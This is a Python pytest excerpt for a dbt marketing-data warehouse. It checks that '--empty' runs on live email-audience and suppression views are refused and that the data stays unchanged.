    from ingestion.dbt_runner import run_dbt

    views = [
        "int_identity__departed_records", "int_engagement__suppression_evidence", "int_engagement__suppression_guard",
        "email_audience", "cart_abandonment_triggers", "published_email_audience",
    ]  # fmt: skip
    readings = (
        "select count(*), count(distinct reading_fingerprint) "
        "from intermediate.int_engagement__suppression_evidence_at_build"
    )
    guard_rows = "select count(*) from intermediate.int_engagement__suppression_guard"
    with pytest.MonkeyPatch.context() as env:
        built_warehouse.clone(tmp_path, env)
        before = (audience(), query(guard_rows), query(readings))
        table = run_dbt(["run", "--empty", "--select", "int_engagement__suppression_evidence_at_build"])
        assert table.success, table.failures
        for view in views:  # one at a time: a view downstream of a refused one would only be skipped
            refused = run_dbt(["run", "--empty", "--select", view])
            assert not refused.success, view
            assert [f.split(":", 1)[0].split(".")[-1] for f in refused.failures] == [view], refused.failures
            assert "is a live view" in refused.failures[0], refused.failures
        after = (audience(), query(guard_rows), query(readings))
        assert after == before
